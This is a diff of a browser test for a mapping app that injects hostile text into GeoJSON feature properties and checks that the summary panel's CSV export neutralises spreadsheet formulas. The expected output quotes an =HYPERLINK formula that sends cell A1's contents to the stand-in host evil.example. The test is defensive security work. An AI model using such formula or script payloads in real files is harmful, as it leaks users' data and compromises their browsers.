@@ -8,6 +8,7 @@
  * headless, every non-loopback request blocked; screenshots in test-output/.
  */
 import { expect } from 'chai';
+import fs from 'node:fs';
 import path from 'node:path';
 import type { Feature, Polygon } from 'geojson';
 import { type Page, type Response as PageResponse } from 'playwright-core';
@@ -118,7 +119,13 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     const [lon, lat] = centre;
     const features = [-1, 1].map((k, i) => ({
       type: 'Feature',
-      properties: { loai: i === 0 ? hostile.img : hostile.script, ten: `${hostile.svg} thửa ${i}`, [propertyName]: hostile.attr, so: -5 - i, cong_thuc: formula },
+      properties: {
+        loai: i === 0 ? hostile.img : hostile.script,
+        ten: `${hostile.svg} thửa ${i}`,
+        [propertyName]: hostile.attr,
+        so: -5 - i,
+        cong_thuc: formula,
+      },
       geometry: square(lon + k * 0.0006, lat, 50),
     }));
     const geojson = JSON.stringify({ type: 'FeatureCollection', features });
@@ -209,6 +216,15 @@ forEachBackend('hostile text in every page of a browser', (server, backend: Back
     expect(summaryText).to.contain(hostile.script);
     expect(await summary.locator('svg.chart').textContent()).to.contain('<');
     expect(await page.locator('#summary-panel img, #summary-panel script, #summary-panel foreignObject').count()).to.equal(0);
+
+    // Grouped by the formula column, the summary's CSV download holds the formula as quoted text.
+    await summary.locator(`#groupby-0-${layerId}`).selectOption('cong_thuc');
+    const chart = `#summary-panel section[data-layer="${layerId}"] svg.chart`;
+    await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.includes('=HYPERLINK'), chart);
+    const [download] = await Promise.all([page.waitForEvent('download'), summary.locator('button.csv').click()]);
+    const csv = fs.readFileSync((await download.path())!, 'utf8');
+    expect(csv).to.contain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""xem"")"`);
+    expect(csv.split('\r\n').slice(1).some((line) => line.startsWith('='))).to.equal(false);
     await noScriptRan();
   });
 
